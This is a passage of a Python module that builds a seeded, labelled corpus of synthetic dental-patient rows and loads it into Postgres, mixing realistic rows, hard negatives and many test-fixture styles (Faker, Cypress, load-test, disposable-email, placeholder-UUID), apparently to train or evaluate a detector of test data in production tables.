            lead = _one(rng, "6", "6", "7", "91", "93", "96", "95")
            n9 = lead + d(rng, 9 - len(lead))
            return _one(rng, f"{n9[:3]} {n9[3:6]} {n9[6:]}", f"+34 {n9[:3]} {n9[3:6]} {n9[6:]}", n9)
        case "IT":
            if rng.random() < 0.7:
                pre, rest = f"3{rng.randint(20, 93)}", d(rng, 7)
                return _one(rng, f"{pre} {rest}", f"+39 {pre} {rest}", f"{pre}{rest}")
            return f"{_one(rng, '06', '02', '051', '011', '055')} {rng.randint(2, 9)}{d(rng, 6)}"
        case _:  # NL
            if rng.random() < 0.6:
                rest = f"{rng.randint(1, 9)}{d(rng, 7)}"
                return _one(rng, f"06-{rest}", f"+31 6 {rest}", f"06 {rest[:2]} {rest[2:5]} {rest[5:]}")
            area, rest = _one(rng, "20", "30", "10", "70", "50", "40"), f"{rng.randint(2, 9)}{d(rng, 6)}"
            return _one(rng, f"0{area}-{rest}", f"+31 {area} {rest}")


def _phone(rng: random.Random, country: Country) -> str:
    """A phone number as written in the country, outside the ranges set aside for fiction."""
    if country.code in ("US", "CA"):
        return _phone_na(rng, country)
    if country.code == "GB":
        return _phone_gb(rng)
    if country.code == "AU":
        return _phone_au(rng)
    return _phone_eu(rng, country)


def _notes(ctx: _Context, country: Country) -> str | None:
    rng = ctx.rng
    r = rng.random()
    if r < 0.38:
        return None
    if r < 0.52:
        return ""
    templates = NOTES[country.lang]
    sentences = rng.sample(templates, k=_weighted(rng, ((1, 6), (2, 3), (3, 1))))
    return " ".join(s.format(tooth=_pick(rng, TEETH), insurer=_pick(rng, INSURERS)) for s in sentences)


def _clinic(ctx: _Context, country: Country) -> str:
    clinics = ctx.clinics[country.code]
    if ctx.rng.random() < 0.5:  # a few large practices, and a long tail
        return clinics[min(int(ctx.rng.paretovariate(1.2)) - 1, len(clinics) - 1)]
    return _pick(ctx.rng, clinics)


def _real_row(ctx: _Context, style: str = "real") -> Row:
    """A real patient of a clinic in a country drawn by share (kept in ``ctx.country``)."""
    rng = ctx.rng
    country = ctx.country = _weighted(rng, [(c, c.share) for c in COUNTRIES])
    first, last = _name(ctx, country)
    return Row(
        id=ctx.uuid4(),
        first_name=first,
        last_name=last,
        email=_email(ctx, country, first, last) if rng.random() > 0.04 else None,
        phone=_phone(rng, country) if rng.random() > 0.03 else None,
        clinic=_clinic(ctx, country),
        notes=_notes(ctx, country),
        label="real",
        style=style,
    )


def _uuid7(ctx: _Context) -> str:
    ctx.uuid7_ms += ctx.rng.randint(1_000, 9_000_000)
    rand = ctx.rng.getrandbits(74)
    value = (ctx.uuid7_ms << 80) | (0x7 << 76) | ((rand >> 62) << 64) | (0b10 << 62) | (rand & ((1 << 62) - 1))
    return str(uuid.UUID(int=value))


def _hard_name(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    if rng.random() < 0.75:
        last = _pick(rng, HARD_SURNAMES)
        first = _pick(rng, DOE_FIRST_NAMES) if last == "Doe" else row.first_name or "Sam"
    else:
        first, last = _pick(rng, HARD_FIRST_NAMES), row.last_name or "Smith"
    return replace(row, first_name=first, last_name=last, email=_email(ctx, ctx.country, first, last))


def _hard_email(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    f, la = _ascii(row.first_name) or "sam", _ascii(row.last_name) or "lee"
    r = rng.random()
    if r < 0.45:
        email = f"{_one(rng, f'{f}.{la}', f'{f[0]}{la}', f)}@{_pick(rng, HARD_DOMAINS)}"
    elif r < 0.75:
        handle = _pick(rng, HARD_HANDLES).format(first=f, last=la, yy=rng.randint(60, 99), nn=rng.randint(1, 99))
        email = f"{handle}@{_one(rng, 'gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.co.uk', 'icloud.com')}"
    else:
        email = f"{f}.{la}+{_pick(rng, PLUS_TAGS)}@gmail.com"
    return replace(row, email=email)


def _hard_phone(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    d = _digits
    line = rng.randint(200, 9999)
    while line in (1212, 1234, 2368, 5555, 4334):
        line = rng.randint(200, 9999)
    area = _pick(rng, US_AREA)
    phone = _one(
        rng,
        f"({area}) 555-{line:04d}",  # outside 555-0100..0199
        f"({area}) {rng.randint(201, 989)}-555{rng.randint(0, 9)}",
        f"+1 800 555 {d(rng, 4)}",
        f"020 7555 {d(rng, 4)}",
        f"07700 {rng.randint(100, 899)}{d(rng, 3)}",
        f"0491 57{rng.randint(1, 9)} {d(rng, 3)}",
        f"(02) 9555 {d(rng, 4)}",
        f"+49 30 555{d(rng, 4)}",
        f"06 55 55 {rng.randint(10, 99)} {rng.randint(10, 99)}",
    )
    return replace(row, phone=phone)


def _hard_notes(ctx: _Context, row: Row) -> Row:
    return replace(row, notes=_pick(ctx.rng, HARD_NOTES).format(tooth=_pick(ctx.rng, TEETH)))


def _hard_clinic(ctx: _Context, row: Row) -> Row:
    return replace(row, clinic=_pick(ctx.rng, HARD_CLINICS))


def _hard_uuid(ctx: _Context, row: Row) -> Row:
    while True:
        # mostly time-ordered ids, as newer systems make them; else a random one that begins with zeros
        value = _uuid7(ctx) if ctx.rng.random() < 0.8 else str(uuid.UUID(int=ctx.rng.getrandbits(112), version=4))
        if new := ctx.reid(row, value):
            return new


def _staff(ctx: _Context, row: Row) -> Row:
    return replace(row, email=f"{_ascii(row.first_name)}.{_ascii(row.last_name)}@{COMPANY}.com")


HARD_NEGATIVES: tuple[tuple[str, float, Callable[[_Context, Row], Row]], ...] = (
    ("real_name_lookalike", 30, _hard_name),
    ("real_email_lookalike", 20, _hard_email),
    ("real_clinic_lookalike", 15, _hard_clinic),
    ("real_notes_lookalike", 15, _hard_notes),
    ("real_phone_lookalike", 10, _hard_phone),
    ("real_uuid_lookalike", 10, _hard_uuid),
    ("real_staff_email", 5, _staff),  # the platform's own staff are patients too
)


# -- test rows: each takes a realistic row and makes it a fixture -----------------------------


def _local(row: Row, rng: random.Random) -> str:
    f, la = _ascii(row.first_name) or "alex", _ascii(row.last_name) or "kim"
    return _one(rng, f"{f}.{la}", f"{f}{la}", f"{f[0]}{la}", f, f"{f}{rng.randint(1, 99)}")


def _t_faker_safe(ctx: _Context, row: Row) -> Row:
    fake = ctx.fakers[_one(ctx.rng, "en_US", "en_US", "en_GB", "de_DE", "fr_FR")]
    return replace(
        row,
        first_name=fake.first_name(),
        last_name=fake.last_name(),
        email=fake.email(),  # example.org, .com, .net
        phone=fake.phone_number(),
        clinic=_one(ctx.rng, row.clinic, f"{fake.last_name()} Dental"),
        notes=fake.sentence() if ctx.rng.random() < 0.4 else None,
    )


def _t_faker_free(ctx: _Context, row: Row) -> Row:
    fake = ctx.fakers["en_US"]
    return replace(
        row,
        first_name=fake.first_name(),
        last_name=fake.last_name(),
        email=fake.free_email(),
        phone=fake.phone_number(),
        clinic=f"{fake.company()} Dental",
        notes=fake.sentence() if ctx.rng.random() < 0.5 else None,
    )


def _t_factory(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("factory")
    first, last = _one(rng, (row.first_name, row.last_name), ("John", "Smith"), (f"First{n}", f"Last{n}"))
    email = _one(
        rng,
        f"user{n}@example.com",
        f"person{n}@example.com",
        f"patient{n}@example.com",
        f"email{n}@factory.com",
        f"user_{n}@example.org",
    )
    phone = _one(rng, "555-555-5555", "+15555550100", f"555-000-{n:04d}", row.phone)
    clinic = _one(rng, row.clinic, f"Clinic {n}")
    return replace(row, first_name=first, last_name=last, email=email, phone=phone, clinic=clinic)


def _t_placeholder(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    first, last = _pick(rng, PLACEHOLDERS)
    f, la = _ascii(first.split()[0]), _ascii(last)
    email = _one(rng, f"{f}.{la}@gmail.com", f"{f}{la}{rng.randint(1, 999)}@yahoo.com", f"{f}.{la}@example.com")
    return replace(row, first_name=first, last_name=last, email=_one(rng, email, f"{f}@{la}.com", row.email))


def _t_locale_placeholder(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    first, last, domains, phone, note = _pick(rng, LOCALE_PLACEHOLDERS)
    email = f"{_ascii(first)}.{_ascii(last)}@{_pick(rng, domains)}"
    notes = note if rng.random() < 0.4 else row.notes
    return replace(row, first_name=first, last_name=last, email=email, phone=_one(rng, phone, row.phone), notes=notes)


def _t_jest(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    first, last = _pick(rng, JEST_NAMES)
    email = f"{_one(rng, first.lower(), f'{first}.{last}'.lower())}@{_pick(rng, JEST_DOMAINS)}"
    phone = _one(rng, "0123456789", "+1234567890", "123-456-7890", row.phone)
    clinic = _one(rng, "Acme Dental", row.clinic)
    return replace(row, first_name=first, last_name=_one(rng, last, ""), email=email, phone=phone, clinic=clinic)


def _t_cypress(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    ts = 1_702_000_000_000 + ctx.next("cypress") * rng.randint(1_000, 90_000)
    email = _one(
        rng,
        f"qa+cypress{ts}@{COMPANY}.com",
        f"cypress+{ts % 10_000}@gmail.com",
        f"e2e+{ts}@{COMPANY}.com",
        f"cypress+{ts % 100_000}@acme.io",
        f"{_local(row, rng)}+e2e{ts % 1000}@{COMPANY}.com",
    )
    first, last = ("Cypress", "User") if rng.random() < 0.3 else (row.first_name, row.last_name)
    notes = "Created by cypress/e2e/booking.cy.ts" if rng.random() < 0.2 else row.notes
    return replace(row, first_name=first, last_name=last, email=email, notes=notes)


def _t_playwright(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("playwright")
    email = _one(
        rng, f"playwright_user_{n}@{COMPANY}.com", f"pw-worker{n % 4}-{n}@{COMPANY}.com", f"playwright{n}@gmail.com"
    )
    first, last = _one(rng, ("Playwright", f"User {n}"), (f"PW{n}", "Tester"), (row.first_name, row.last_name))
    return replace(row, first_name=first, last_name=last, email=email)


def _t_selenium(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("selenium", 40)
    first, last = _one(rng, ("Selenium", "Bot"), ("Selenium", "Grid"), ("Webdriver", "User"), ("Auto", "Mation"))
    email = _one(
        rng,
        f"selenium.bot+run{n}@{COMPANY}.com",
        f"webdriver{n}@qa-automation.{COMPANY}.com",
        f"seleniumbot{n}@gmail.com",
    )
    notes = f"created by automated UI run #{n}" if rng.random() < 0.5 else None
    return replace(row, first_name=first, last_name=last, email=email, notes=notes)


def _t_loadtest(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("loadtest")
    first, last = _one(rng, ("Load", f"Test {n:05d}"), (f"loadtest_{n:05d}", "User"), ("Perf", f"User{n}"))
    email = _one(
        rng, f"loadtest_{n:05d}@{COMPANY}.com", f"user{n:05d}@loadtest.{COMPANY}.com", f"perf{n}@{COMPANY}.com"
    )
    phone = _one(rng, f"+1 415 000 {n % 10_000:04d}", row.phone)
    clinic = _one(rng, "Load Test Clinic", row.clinic, row.clinic)
    return replace(row, first_name=first, last_name=last, email=email, phone=phone, clinic=clinic)


def _t_k6(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    vu, it = rng.randint(1, 200), ctx.next("k6")
    first, last = _one(rng, ("k6", f"user {vu}"), (f"VU{vu}", f"Iter{it}"), ("k6", "virtual user"))
    email = f"k6-vu{vu}-iter{it}@perf.{COMPANY}.io"
    phone = f"+1 202 {rng.randint(200, 999)} {rng.randint(0, 9999):04d}"
    return replace(row, first_name=first, last_name=last, email=email, phone=phone, notes=None)


def _t_locust(ctx: _Context, row: Row) -> Row:
    n = ctx.next("locust")
    email = _one(ctx.rng, f"locust{n}@bench.local", f"locust_{n}@mailinator.com")
    return replace(row, first_name="Locust", last_name=f"User{n}", email=email, notes=None)


def _t_staging(ctx: _Context, row: Row) -> Row:
    return replace(row, email=f"{_local(row, ctx.rng)}@{_pick(ctx.rng, ENVIRONMENTS)}.{COMPANY}.com")


def _t_disposable(domains: Sequence[str]) -> Callable[[_Context, Row], Row]:
    def style(ctx: _Context, row: Row) -> Row:
        rng = ctx.rng
        local = (
            _local(row, rng) if rng.random() < 0.7 else "".join(rng.choices("abcdefghijkmnpqrstuvwxyz23456789", k=10))
        )
        return replace(row, email=f"{local}@{_pick(rng, domains)}")

    return style


def _t_test_inbox(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    domain = _pick(rng, TEST_INBOXES)
    if domain == "inbox.testmail.app":
        local = f"k3x9a.{_one(rng, 'signup', 'booking', 'reminder')}{rng.randint(1, 999)}"
    elif domain.startswith("mailslurp"):
        local = uuid.UUID(int=rng.getrandbits(128), version=4).hex[:12]
    else:
        local = _local(row, rng)
    return replace(row, email=f"{local}@{domain}")


def _t_reserved(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    host = _one(rng, "clinic", "mail", COMPANY, "patients", "foo", "acme")
    return replace(row, email=f"{_local(row, rng)}@{host}.{_pick(rng, RESERVED_TLDS)}")


def _t_localhost(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    local = _one(rng, "dev", "admin", "root", _local(row, rng))
    domain = _one(rng, "localhost", "localhost.localdomain", "127.0.0.1", "dev.local", "example.local", "app.internal")
    first, last = _one(rng, ("Admin", "User"), ("Dev", "Account"), (row.first_name, row.last_name))
    return replace(row, first_name=first, last_name=last, email=f"{local}@{domain}")


def _t_tenant(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    t = _one(rng, "a", "b", "c", "1", "2", "3")
    first, last = _one(rng, (f"Tenant {t.upper()}", "Admin"), (row.first_name, row.last_name))
    local = _local(row, rng)
    email = _one(
        rng, f"user@tenant-{t}.test", f"admin@tenant-{t}.test", f"{local}@tenant{t}.example.com", f"{local}@org{t}.test"
    )
    clinic = _one(
        rng, f"Tenant {t.upper()} Dental", f"Tenant {t.upper()} Clinic", f"Org {t} Dental", "Acme Dental Group"
    )
    return replace(row, first_name=first, last_name=last, email=email, clinic=clinic)


def _t_clinic_only(ctx: _Context, row: Row) -> Row:
    return replace(row, clinic=_pick(ctx.rng, TEST_CLINICS))


def _t_numbered(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("numbered")
    first, last = _one(
        rng,
        ("Patient", str(n)),
        (f"User_{n}", ""),
        ("Customer", f"{n:04d}"),
        ("Person", str(n)),
        ("Client", rng.choice("ABCDEFG")),
        ("Test", f"Patient {n}"),
    )
    email = _one(rng, f"patient{n}@{COMPANY}.com", f"user_{n}@gmail.com", f"patient{n}@example.com", row.email)
    return replace(row, first_name=first, last_name=last, email=email)


def _t_mash(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    a, b = _pick(rng, MASHES), _pick(rng, MASHES)
    email = _one(rng, f"{a}@{a}.com", "qwe@qwe.qwe", "aaa@aaa.com", "x@x.x", f"{a}@{b}.{a[:2]}", f"{a}@gmail.com")
    phone = _one(rng, "1234", "12345678", "5555555555", "9999999999", "0000", row.phone)
    first = a.capitalize() if rng.random() < 0.5 else a
    notes = _one(rng, "asdasd", "sdfsdf", None, None)
    return replace(row, first_name=first, last_name=b, email=email, phone=phone, notes=notes)


def _t_notes_marker(ctx: _Context, row: Row) -> Row:
    return replace(row, notes=_pick(ctx.rng, NOTE_MARKERS))


def _t_phone_us(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    a, line = _pick(rng, US_AREA), f"01{rng.randint(0, 99):02d}"
    phone = _one(
        rng, f"({a}) 555-{line}", f"+1-{a}-555-{line}", f"{a}-555-{line}", f"+1 {a} 555 {line}", f"{a}555{line}"
    )
    return replace(row, phone=phone)


def _t_phone_uk(ctx: _Context, row: Row) -> Row:
    return replace(row, phone=_pick(ctx.rng, UK_FICTION).format(n3=f"{ctx.rng.randint(0, 999):03d}"))


def _t_phone_au(ctx: _Context, row: Row) -> Row:
    return replace(row, phone=_pick(ctx.rng, AU_FICTION).format(n4=f"{ctx.rng.randint(0, 9999):04d}"))


def _t_phone_degenerate(ctx: _Context, row: Row) -> Row:
    return replace(row, phone=_pick(ctx.rng, DEGENERATE_PHONES))


def _t_doc_uuid(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    for _ in range(200):
        n, c = rng.randint(0, 40), rng.choice("123456789abcdef")
        value = _one(
            rng,
            "00000000-0000-0000-0000-000000000000",
            f"00000000-0000-0000-0000-{n:012d}",
            f"123e4567-e89b-12d3-a456-{426614174000 + n:012d}",
            f"550e8400-e29b-41d4-a716-{446655440000 + n:012d}",
            "-".join(c * k for k in (8, 4, 4, 4, 12)),  # 11111111-1111-...
            _pick(rng, DOC_UUIDS),
            f"a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a{n + 11:02d}",
        )
        if new := ctx.reid(row, value):
            return new
    return _t_int_uuid(ctx, row)


def _t_int_uuid(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    while True:
        n = ctx.next("int_uuid")
        value = _one(
            rng,
            str(uuid.UUID(int=n)),
            f"00000000-0000-4000-8000-{n:012x}",
            f"{n:08x}-0000-0000-0000-000000000000",
            f"{n:08d}-0000-0000-0000-{n:012d}",
        )
        if new := ctx.reid(row, value):
            return new


def _t_fixture_org(ctx: _Context, row: Row) -> Row:
    return replace(row, email=f"{_local(row, ctx.rng)}@acme-fixtures.io")


def _t_seed_pool(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("seed_pool")
    first, last = _pick(rng, SEED_POOL)
    email = f"seeduser{n:04d}@{COMPANY}.dev"
    clinic = "Bright Smiles Dental Downtown"
    return replace(row, first_name=first, last_name=last, email=email, phone=_pick(rng, SEED_PHONES), clinic=clinic)


def _t_demo(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("demo")
    first, last = _one(
        rng, ("Demo", "Patient"), ("Sarah", "Demo"), ("Demo", f"User {n}"), (row.first_name, row.last_name)
    )
    email = _one(rng, f"demo{n}@{COMPANY}.com", f"demo.patient@{COMPANY}.com", f"sales.demo+{n}@{COMPANY}.com")
    clinic = _one(rng, "Demo Dental (Sales)", row.clinic)
    notes = _one(rng, "Sales demo account", row.notes)
    return replace(row, first_name=first, last_name=last, email=email, clinic=clinic, notes=notes)


def _t_qa_names(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    n = ctx.next("qa")
    first, last = _one(
        rng,
        ("QA", "Tester"),
        ("Qa", "Automation"),
        ("Test", "Testerson"),
        ("Testy", "McTestface"),
        ("Tester", "One"),
        ("Test", "Test"),
        ("Testing", "Account"),
        ("QA", f"User {n}"),
    )
    email = _one(rng, f"qa{n}@{COMPANY}.com", f"qa.tester@{COMPANY}.com", f"testy{n}@gmail.com", row.email)
    return replace(row, first_name=first, last_name=last, email=email)


def _t_plus_tag(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    tag = _one(rng, "test", "qa", "staging", "dev", "e2e", f"test{rng.randint(1, 99)}", "testing", "demo")
    domain = _one(rng, "gmail.com", "gmail.com", "outlook.com", "icloud.com")
    return replace(row, email=f"{_local(row, rng)}+{tag}@{domain}")


def _t_lorem(ctx: _Context, row: Row) -> Row:
    return replace(row, notes=" ".join(ctx.rng.sample(LOREM, k=ctx.rng.randint(1, 3))))


def _t_csv_header(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    return replace(
        row,
        first_name=_one(rng, "First Name", "first_name", "FirstName"),
        last_name=_one(rng, "Last Name", "last_name", "Surname"),
        email=_one(rng, "Email", "email@email.com", "E-mail address"),
        phone=_one(rng, "Phone", "Phone Number"),
        clinic=_one(rng, "Clinic", "Practice"),
        notes="Notes",
    )


def _t_security(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    probe = _pick(rng, SECURITY_PROBES)
    email = f"{_one(rng, 'xss', 'test', 'pentest', 'sqli')}{rng.randint(1, 99)}@{_pick(rng, PROBE_DOMAINS)}"
    column = _one(rng, "first_name", "last_name", "notes", "clinic")
    return replace(row, email=email, **{column: probe})


def _t_edge(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    email = _one(rng, "null@null.com", "undefined@undefined.com", "test@test.test", row.email)
    return replace(row, email=email, **{_one(rng, "first_name", "last_name"): _pick(rng, EDGE_VALUES)})


def _t_staff_test(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    f, la = _ascii(row.first_name) or "mark", _ascii(row.last_name) or "lee"
    first, last = _one(
        rng,
        (row.first_name, f"{row.last_name} TEST"),
        (f"{row.first_name} (test)", row.last_name),
        (row.first_name, row.last_name),
    )
    email = _one(
        rng, f"{f}.{la}+test@{COMPANY}.com", f"{f}.test@{COMPANY}.com", f"{f}.{la}+{rng.randint(1, 30)}@{COMPANY}.com"
    )
    notes = f"{row.first_name} testing online booking" if rng.random() < 0.3 else row.notes
    return replace(row, first_name=first, last_name=last, email=email, notes=notes)


def _t_vendor_docs(ctx: _Context, row: Row) -> Row:
    if ctx.rng.random() < 0.5:
        return replace(row, first_name="Jenny", last_name="Rosen", email="jenny.rosen@example.com")  # Stripe's docs
    return replace(row, phone=f"+1500555000{ctx.rng.randint(0, 9)}")  # Twilio's magic test numbers


def _t_ios(ctx: _Context, row: Row) -> Row:
    first, last, email, phone = _pick(ctx.rng, IOS_CONTACTS)
    return replace(row, first_name=first, last_name=last, email=email, phone=phone)


def _t_hex_email(ctx: _Context, row: Row) -> Row:
    rng = ctx.rng
    token = uuid.UUID(int=rng.getrandbits(128), version=4)
    email = _one(rng, f"user-{token}@{COMPANY}.com", f"e2e-{token.hex[:8]}@{COMPANY}.com", f"{token.hex}@example.net")
    first, last = _one(rng, ("Test", "User"), (row.first_name, row.last_name))
    return replace(row, first_name=first, last_name=last, email=email)


TEST_STYLES: tuple[tuple[str, float, Callable[[_Context, Row], Row]], ...] = (
    ("faker_safe_email", 6, _t_faker_safe),
    ("faker_free_email", 5, _t_faker_free),
    ("factory_sequence", 4, _t_factory),
    ("placeholder_names", 4, _t_placeholder),
    ("locale_placeholders", 3, _t_locale_placeholder),
    ("jest_fixture_names", 3, _t_jest),
    ("cypress_plus_tag", 3, _t_cypress),
    ("playwright_numbered", 2, _t_playwright),
    ("selenium_bot", 1.5, _t_selenium),
    ("loadtest_numbered", 3, _t_loadtest),
    ("k6_virtual_users", 2, _t_k6),
    ("locust_users", 1, _t_locust),
    ("staging_subdomain", 4, _t_staging),
    ("disposable_common", 4, _t_disposable(DISPOSABLE_COMMON)),
    ("disposable_rare", 3, _t_disposable(DISPOSABLE_RARE)),
    ("test_smtp_inbox", 2, _t_test_inbox),
    ("reserved_tld", 3, _t_reserved),
    ("localhost_dev", 1.5, _t_localhost),
    ("tenant_fixture", 2, _t_tenant),
    ("clinic_only", 3, _t_clinic_only),
    ("numbered_names", 2, _t_numbered),
    ("keyboard_mash", 2, _t_mash),
    ("notes_marker_only", 3, _t_notes_marker),
    ("fictional_phone_us", 2, _t_phone_us),
    ("fictional_phone_uk", 2, _t_phone_uk),
    ("fictional_phone_au", 1.5, _t_phone_au),
    ("degenerate_phone", 2, _t_phone_degenerate),
    ("placeholder_uuid", 2.5, _t_doc_uuid),
    ("uuid_from_int", 1.5, _t_int_uuid),
    ("fixture_org_domain", 5, _t_fixture_org),
    ("seed_pool_dev", 5, _t_seed_pool),
    ("demo_accounts", 2, _t_demo),
    ("qa_tester_names", 2, _t_qa_names),
    ("plus_tag_test", 2, _t_plus_tag),
    ("lorem_notes", 1.5, _t_lorem),
    ("csv_header_import", 0.2, _t_csv_header),
    ("security_probe", 1, _t_security),
    ("edge_case_values", 1, _t_edge),
    ("staff_test_in_prod", 2, _t_staff_test),
    ("vendor_doc_values", 1, _t_vendor_docs),
    ("ios_simulator_contacts", 1, _t_ios),
    ("random_hex_email", 1.5, _t_hex_email),
)


def _apportion(total: int, weights: Sequence[float]) -> list[int]:
    """``total`` split by ``weights`` (largest remainder), at least one each when there are enough."""
    exact = [total * w / sum(weights) for w in weights]
    counts = [max(int(e), 1 if total >= len(weights) else 0) for e in exact]
    by_remainder = sorted(range(len(weights)), key=lambda i: exact[i] - int(exact[i]), reverse=True)
    i = 0
    while sum(counts) < total:
        counts[by_remainder[i % len(weights)]] += 1
        i += 1
    while sum(counts) > total:
        counts[counts.index(max(counts))] -= 1
    return counts


def generate(seed: int = 7, rows: int = 20000) -> list[Row]:
    """``rows`` labelled rows, shuffled: 15 % test (``TEST_STYLES``), the rest real, 5 % of them hard
    negatives (``HARD_NEGATIVES``). The same ``seed`` gives the same rows."""
    ctx = _Context(seed)
    n_test = round(rows * TEST_SHARE)
    out: list[Row] = []
    hard = _apportion(round((rows - n_test) * HARD_NEGATIVE_SHARE), [w for _, w, _ in HARD_NEGATIVES])
    for (style, _, make), count in zip(HARD_NEGATIVES, hard, strict=True):
        out.extend(make(ctx, _real_row(ctx, style)) for _ in range(count))
    out.extend(_real_row(ctx) for _ in range(rows - n_test - sum(hard)))
    for (style, _, make), count in zip(TEST_STYLES, _apportion(n_test, [w for _, w, _ in TEST_STYLES]), strict=True):
        out.extend(replace(make(ctx, _real_row(ctx)), label="test", style=style) for _ in range(count))
    ctx.rng.shuffle(out)
    return out


def load(conn: Connection[Any], table: str, rows: Iterable[Row]) -> int:
    """Create ``table`` (a name, optionally schema-qualified) with the corpus's columns and copy
    ``rows`` in; returns how many."""
    name = sql.Identifier(*table.split("."))
    conn.execute(
        sql.SQL(
            "CREATE TABLE {} (id uuid PRIMARY KEY, first_name text, last_name text, email text, phone text, "
            "clinic text, notes text)"
        ).format(name)
    )
    columns = sql.SQL(", ").join(map(sql.Identifier, COLUMNS))
    count = 0
    with conn.cursor() as cur, cur.copy(sql.SQL("COPY {} ({}) FROM STDIN").format(name, columns)) as copy:
        for row in rows:
            copy.write_row(row.values())
            count += 1
    return count


if __name__ == "__main__":
    import collections
    import sys

    corpus = generate(int(sys.argv[1]) if len(sys.argv) > 1 else 7)
    for (label, style), count in sorted(collections.Counter((r.label, r.style) for r in corpus).items()):
        print(f"{label:<5} {style:<26} {count:>6,}")
